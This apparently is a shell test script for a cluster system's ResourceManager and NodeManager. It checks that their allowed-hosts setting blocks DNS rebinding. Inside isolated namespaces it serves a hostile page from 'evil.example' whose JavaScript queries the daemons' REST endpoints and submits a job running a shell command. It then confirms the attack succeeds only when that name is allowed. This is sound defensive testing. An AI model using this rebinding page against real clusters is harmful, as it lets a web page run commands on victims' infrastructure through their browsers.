#!/usr/bin/env bash
# Goal: a web page whose name changes its address to ours ("DNS rebinding") reads nothing of
# ResourceManager and NodeManager and starts nothing, though its reader's browser takes them for the
# page's own site.
# Method: Chromium, in namespaces of this test alone, where evil.example has two addresses. On the
# first one the page's own server listens, on the daemon's port, and is gone as soon as it has sent
# the page; the page's requests then go to the second one, the daemon's. First with evil.example
# among the daemon's names, which shows that the attack as such works, then without.
if [ -z "${CREEL_IN_NAMESPACE:-}" ]; then
    flags=-nm
    [ "$EUID" = 0 ] || flags=-Urnm
    command -v chromium > /dev/null ||
        { echo "no chromium here (deploy/install-deps): skipped"; exit 77; }
    unshare $flags ip link set lo up 2> /dev/null ||
        { echo "no namespaces here: skipped"; exit 77; }
    CREEL_IN_NAMESPACE=1 exec unshare $flags --fork --kill-child "$0"
fi
. "$(dirname "$0")/lib.sh"
ip link set lo up
own=$(hostname)
printf '127.0.0.1 localhost\n127.0.0.2 %s\n127.0.0.1 evil.example\n127.0.0.2 evil.example\n' \
    "$own" > "$T/hosts"
mount --bind "$T/hosts" /etc/hosts
rm_pid= nm_pid=
cleanup_more() { kill $rm_pid $nm_pid 2> /dev/null; wait; umount -l /etc/hosts; }

# browse URL: the document after all scripts have run.
browse() {
    HOME=$T timeout 150 chromium --headless --no-sandbox --disable-gpu --disable-quic \
        --no-first-run --disable-background-networking --disable-component-update \
        --disable-sync --disable-dev-shm-usage \
        --disable-features=AsyncDns --user-data-dir="$T/browser" --dump-dom "$1" 2> "$T/browser.log"
}
# start_daemons NAMES: both daemons on 127.0.0.2, answering to NAMES too.
start_daemons() {
    rm -rf "$T/rm.url" "$T/nm.url" "$T/rm" "$T/nm"
    "$BIN/creel-rm" -D creel.rm.bind=127.0.0.2 -D creel.rm.port=8088 -D "creel.rm.state-dir=$T/rm" \
        -D "creel.http.allowed-hosts=$1" --url-file "$T/rm.url" 2>> "$T/rm.log" &
    rm_pid=$!
    "$BIN/creel-nm" -D creel.nodemanager.bind=127.0.0.2 -D creel.nodemanager.port=8042 \
        -D "creel.nodemanager.rm=http://$own:8088" -D "creel.nodemanager.local-dir=$T/nm" \
        -D "creel.http.allowed-hosts=$1" --url-file "$T/nm.url" 2>> "$T/nm.log" &
    nm_pid=$!
    export CREEL_RM=http://$own:8088
    wait_for 60 "node" nodes_running 1
}
stop_daemons() {
    kill $nm_pid $rm_pid
    wait $nm_pid $rm_pid || true
}
# attack PORT REQUESTS: the statuses that a page of evil.example gets for REQUESTS, a JavaScript
# list.
attack() {
    local site
    cat > "$T/page.html" << PAGE
<html><body><script>
var job = JSON.stringify({job: {tasks: [{command: "id > $T/rebound"}]}}), told = [];
function ask(method, path, type, body) {
    for (var i = 0; i < 50; i++) { // until the connections to the first address are given up
        try {
            var x = new XMLHttpRequest();
            x.open(method, path, false);
            if (type) x.setRequestHeader("Content-Type", type);
            x.send(body || null);
            return x.status;
        } catch (e) {}
    }
    return "nothing";
}
$2.forEach(function(r) { told.push(ask.apply(null, r)); });
document.body.textContent = "statuses: " + told.join(" ") + ";";
</script></body></html>
PAGE
    coproc "$BIN/rebinding_site" 127.0.0.1 "$1" "$T/page.html"
    site=$COPROC_PID
    read -r _ <&"${COPROC[0]}"
    browse "http://evil.example:$1/" > "$T/dom"
    wait "$site" || fail "nobody asked the hostile site"
    sed -n 's/.*statuses: \(.*\);.*/\1/p' "$T/dom"
}
jobs_known() { curl -sf "$CREEL_RM/ws/v1/cluster/jobs" | jq '.jobs | length'; }
rm_requests='[["GET", "/ws/v1/cluster/info"], ["GET", "/jmx"],
    ["POST", "/ws/v1/cluster/jobs", "text/plain", job],
    ["POST", "/ws/v1/cluster/jobs", "application/json", job]]'
nm_requests='[["GET", "/ws/v1/node/info"], ["GET", "/ws/v1/node/containers"]]'

start_daemons evil.example
check_equal "$(attack 8088 "$rm_requests")" "200 200 415 201" \
    "the attack on one that answers to the name"
check_equal "$(attack 8042 "$nm_requests")" "200 200" "the attack on its NodeManager"
wait_for 60 "what the page's job does" test -s "$T/rebound"
check_equal "$(jobs_known)" 1 "jobs of the page that was let in"
stop_daemons
rm "$T/rebound"

start_daemons ""
check_equal "$(attack 8088 "$rm_requests")" "421 421 421 421" "the attack on a ResourceManager"
check_equal "$(attack 8042 "$nm_requests")" "421 421" "the attack on a NodeManager"
check_equal "$(jobs_known)" 0 "jobs of the page"
[ ! -e "$T/rebound" ] || fail "the page's command has run"
for name in "127.0.0.2" "$own"; do # people still get there
    browse "http://$name:8088/ws/v1/cluster/info" > "$T/dom"
    grep -q '<clusterInfo' "$T/dom" ||
        fail "a browser does not see http://$name:8088: $(head -c 300 "$T/dom")"
done
creel run -- true
stop_daemons
echo "the page got nothing"
